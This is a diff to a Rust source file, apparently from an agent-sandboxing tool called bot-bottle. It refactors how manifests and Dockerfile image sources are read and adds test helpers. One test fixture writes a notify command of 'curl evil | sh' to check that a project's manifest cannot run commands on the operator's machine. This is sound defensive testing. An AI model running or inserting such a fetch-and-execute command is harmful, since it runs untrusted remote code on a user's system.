@@ -135,6 +135,25 @@ fn read_home(sources: &Sources) -> Result<RawLevel, ManifestError> {
 /// The notify command of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), if
 /// it names one (see `crate::notify`).
 pub fn notify_command(home: &Path) -> Result<Option<String>, ManifestError> {
+    match home_manifest(home)? {
+        None => Ok(None),
+        Some((text, src)) => parse::notify_command(&text, &src),
+    }
+}
+
+/// The `capability.base_images` of `$BOT_BOTTLE_HOME/bot-bottle.json`
+/// (`home`): the images an agent's Dockerfile may read besides the
+/// bottle's own (see `crate::dockerfile::images`).
+pub fn capability_base_images(home: &Path) -> Result<Vec<String>, ManifestError> {
+    match home_manifest(home)? {
+        None => Ok(Vec::new()),
+        Some((text, src)) => Ok(parse::capability_base_images(&text, &src)?.unwrap_or_default()),
+    }
+}
+
+/// The text of `$BOT_BOTTLE_HOME/bot-bottle.json` (`home`), with the
+/// source its paths start from; None when there is no such file.
+fn home_manifest(home: &Path) -> Result<Option<(String, Source)>, ManifestError> {
     let json = home.join("bot-bottle.json");
     if !json.is_file() {
         return Ok(None);
@@ -144,23 +163,7 @@ pub fn notify_command(home: &Path) -> Result<Option<String>, ManifestError> {
         base_dir: Some(home.to_path_buf()),
         home: None,
     };
-    parse::notify_command(&read(&json, &src.origin)?, &src)
-}
-
-/// The `capability.base_images` of `$BOT_BOTTLE_HOME/bot-bottle.json`
-/// (`home`): the images an agent's Dockerfile may read besides the
-/// bottle's own (see `crate::dockerfile::images`).
-pub fn capability_base_images(home: &Path) -> Result<Vec<String>, ManifestError> {
-    let json = home.join("bot-bottle.json");
-    if !json.is_file() {
-        return Ok(Vec::new());
-    }
-    let src = Source {
-        origin: Origin::File(json.clone()),
-        base_dir: Some(home.to_path_buf()),
-        home: None,
-    };
-    Ok(parse::capability_base_images(&read(&json, &src.origin)?, &src)?.unwrap_or_default())
+    Ok(Some((read(&json, &src.origin)?, src)))
 }
 
 fn read(path: &Path, origin: &Origin) -> Result<String, ManifestError> {
@@ -271,60 +274,18 @@ fn finish_agent(raw: RawAgent, sources: &Sources, kind: Kind) -> Result<Agent, M
     })
 }
 
+/// A parsed bottle made whole: its Dockerfile read, the files it names
+/// checked to exist. Returns it with the name it extends, if any.
 fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestError> {
     let place = Place::bottle(&raw.origin, &raw.name);
-    let missing = |key: &str, path: &Path, what: &str| ManifestError::Invalid {
-        place: place.clone(),
-        key: key.to_owned(),
-        message: format!("{} does not exist", path.display()),
-        hint: Some(format!(
-            "{what}; relative paths start from the folder of the file that names them"
-        )),
-    };
     let image = match raw.image {
         None => None,
-        Some(RawImage::Image(reference)) => Some(ImageSource::Image(reference)),
-        Some(RawImage::Dockerfile(path)) if raw.origin == Origin::Embedded => {
-            let name = path.display().to_string();
-            let contents = EMBEDDED_FILES
-                .iter()
-                .find(|(n, _)| *n == name)
-                .map(|(_, text)| (*text).to_owned())
-                .ok_or_else(|| {
-                    missing("dockerfile", &path, "embedded defaults name a missing file")
-                })?;
-            Some(ImageSource::Dockerfile(Dockerfile {
-                shown_as: format!("{}/{name}", Origin::Embedded),
-                contents,
-                context: None,
-                from_agent: false,
-            }))
-        }
-        Some(RawImage::Dockerfile(path)) => {
-            if !path.is_file() {
-                return Err(missing(
-                    "dockerfile",
-                    &path,
-                    "point 'dockerfile' at an existing Dockerfile",
-                ));
-            }
-            let contents = fs::read_to_string(&path).map_err(|e| ManifestError::Invalid {
-                place: place.clone(),
-                key: "dockerfile".into(),
-                message: format!("cannot read {}: {e}", path.display()),
-                hint: None,
-            })?;
-            Some(ImageSource::Dockerfile(Dockerfile {
-                shown_as: path.display().to_string(),
-                contents,
-                context: path.parent().map(Path::to_path_buf),
-                from_agent: false,
-            }))
-        }
+        Some(image) => Some(image_source(image, &raw.origin, &place)?),
     };
     for (i, ca) in raw.trust_upstream_ca.iter().enumerate() {
         if !ca.is_file() {
             return Err(missing(
+                &place,
                 &format!("egress.trust_upstream_ca[{i}]"),
                 ca,
                 "name a PEM file of CA certificates",
@@ -335,6 +296,7 @@ fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestErr
     for (i, (host, identity_file)) in raw.ssh.into_iter().enumerate() {
         if !identity_file.is_file() {
             return Err(missing(
+                &place,
                 &format!("ssh[{i}].identity_file"),
                 &identity_file,
                 "name an existing private key file",
@@ -363,6 +325,73 @@ fn finish_bottle(raw: RawBottle) -> Result<(Bottle, Option<String>), ManifestErr
     Ok((bottle, raw.extends))
 }
 
+/// A bottle's image: the reference, or its Dockerfile read (from the
+/// embedded files for the embedded defaults).
+fn image_source(
+    image: RawImage,
+    origin: &Origin,
+    place: &Place,
+) -> Result<ImageSource, ManifestError> {
+    match image {
+        RawImage::Image(reference) => Ok(ImageSource::Image(reference)),
+        RawImage::Dockerfile(path) if *origin == Origin::Embedded => {
+            let name = path.display().to_string();
+            let contents = EMBEDDED_FILES
+                .iter()
+                .find(|(n, _)| *n == name)
+                .map(|(_, text)| (*text).to_owned())
+                .ok_or_else(|| {
+                    missing(
+                        place,
+                        "dockerfile",
+                        &path,
+                        "embedded defaults name a missing file",
+                    )
+                })?;
+            Ok(ImageSource::Dockerfile(Dockerfile {
+                shown_as: format!("{}/{name}", Origin::Embedded),
+                contents,
+                context: None,
+                from_agent: false,
+            }))
+        }
+        RawImage::Dockerfile(path) => {
+            if !path.is_file() {
+                return Err(missing(
+                    place,
+                    "dockerfile",
+                    &path,
+                    "point 'dockerfile' at an existing Dockerfile",
+                ));
+            }
+            let contents = fs::read_to_string(&path).map_err(|e| ManifestError::Invalid {
+                place: place.clone(),
+                key: "dockerfile".into(),
+                message: format!("cannot read {}: {e}", path.display()),
+                hint: None,
+            })?;
+            Ok(ImageSource::Dockerfile(Dockerfile {
+                shown_as: path.display().to_string(),
+                contents,
+                context: path.parent().map(Path::to_path_buf),
+                from_agent: false,
+            }))
+        }
+    }
+}
+
+/// The error for a file `key` names that does not exist (`what`: the hint).
+fn missing(place: &Place, key: &str, path: &Path, what: &str) -> ManifestError {
+    ManifestError::Invalid {
+        place: place.clone(),
+        key: key.to_owned(),
+        message: format!("{} does not exist", path.display()),
+        hint: Some(format!(
+            "{what}; relative paths start from the folder of the file that names them"
+        )),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -375,6 +404,34 @@ mod tests {
             cwd: dir.join("proj"),
             user_home: Some(dir.to_path_buf()),
         }
+    }
+
+    /// `read` of a home whose `bot-bottle.json` is `json` (an error with
+    /// the temporary folder cut off), and whether the manifests load.
+    fn on_home<T>(
+        json: &str,
+        read: impl Fn(&Path) -> Result<T, ManifestError>,
+    ) -> (Result<T, String>, bool) {
+        let dir = tempfile::tempdir().unwrap();
+        let s = sources(dir.path());
+        fs::create_dir_all(&s.home).unwrap();
+        fs::write(s.home.join("bot-bottle.json"), json).unwrap();
+        let got = read(&s.home).map_err(|e| {
+            e.to_string()
+                .replace(&format!("{}/", dir.path().display()), "")
+        });
+        (got, load(&s).is_ok())
+    }
+
+    /// A project whose `bot-bottle.json` is `json` (in a temporary folder,
+    /// kept while the first value lives), and the note its load leaves.
+    fn in_project(json: &str) -> (tempfile::TempDir, Sources, String) {
+        let dir = tempfile::tempdir().unwrap();
+        let s = sources(dir.path());
+        fs::create_dir_all(&s.cwd).unwrap();
+        fs::write(s.cwd.join("bot-bottle.json"), json).unwrap();
+        let note = load(&s).unwrap().project.note().unwrap();
+        (dir, s, note)
     }
 
     /// Records the project of `s` as trusted, as it is now.
@@ -412,31 +469,16 @@ mod tests {
             ),
         ];
         for (json, want) in cases {
-            let dir = tempfile::tempdir().unwrap();
-            let s = sources(dir.path());
-            fs::create_dir_all(&s.home).unwrap();
-            fs::write(s.home.join("bot-bottle.json"), json).unwrap();
-            let got = notify_command(&s.home).map_err(|e| {
-                e.to_string()
-                    .replace(&format!("{}/", dir.path().display()), "")
-            });
+            let (got, loads) = on_home(json, notify_command);
             let want = want.map(|c| c.map(str::to_owned)).map_err(str::to_owned);
             assert_eq!(got, want, "{json}");
-            assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
+            assert_eq!(loads, want.is_ok(), "{json}");
         }
         // A project's manifest may not run commands on the operator's
         // machine: it is not used, whatever else it holds.
-        let dir = tempfile::tempdir().unwrap();
-        let s = sources(dir.path());
-        fs::create_dir_all(&s.cwd).unwrap();
-        fs::write(
-            s.cwd.join("bot-bottle.json"),
-            r#"{"notify": {"command": "curl evil | sh"}}"#,
-        )
-        .unwrap();
-        let m = load(&s).unwrap();
+        let (_dir, s, note) = in_project(r#"{"notify": {"command": "curl evil | sh"}}"#);
         assert_eq!(
-            m.project.note().unwrap(),
+            note,
             "./bot-bottle.json: notify: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not run commands on your machine; the project's agents and bottles are not used"
         );
         assert!(inspect(&s).is_err(), "it cannot be trusted either");
@@ -469,32 +511,18 @@ mod tests {
             ),
         ];
         for (json, want) in cases {
-            let dir = tempfile::tempdir().unwrap();
-            let s = sources(dir.path());
-            fs::create_dir_all(&s.home).unwrap();
-            fs::write(s.home.join("bot-bottle.json"), json).unwrap();
-            let got = capability_base_images(&s.home).map_err(|e| {
-                e.to_string()
-                    .replace(&format!("{}/", dir.path().display()), "")
-            });
+            let (got, loads) = on_home(json, capability_base_images);
             let want = want
                 .map(|l| l.into_iter().map(str::to_owned).collect::<Vec<_>>())
                 .map_err(str::to_owned);
             assert_eq!(got, want, "{json}");
-            assert_eq!(load(&s).is_ok(), want.is_ok(), "{json}");
+            assert_eq!(loads, want.is_ok(), "{json}");
         }
         // A project's manifest may not widen what an agent's build reads.
-        let dir = tempfile::tempdir().unwrap();
-        let s = sources(dir.path());
-        fs::create_dir_all(&s.cwd).unwrap();
-        fs::write(
-            s.cwd.join("bot-bottle.json"),
-            r#"{"capability": {"base_images": ["acme/private:latest"]}}"#,
-        )
-        .unwrap();
-        let m = load(&s).unwrap();
+        let (_dir, s, note) =
+            in_project(r#"{"capability": {"base_images": ["acme/private:latest"]}}"#);
         assert_eq!(
-            m.project.note().unwrap(),
+            note,
             "./bot-bottle.json: capability: is read from $BOT_BOTTLE_HOME/bot-bottle.json only: a project's manifest may not choose which of your images an agent's Dockerfile can read; the project's agents and bottles are not used"
         );
         assert!(inspect(&s).is_err(), "it cannot be trusted either");
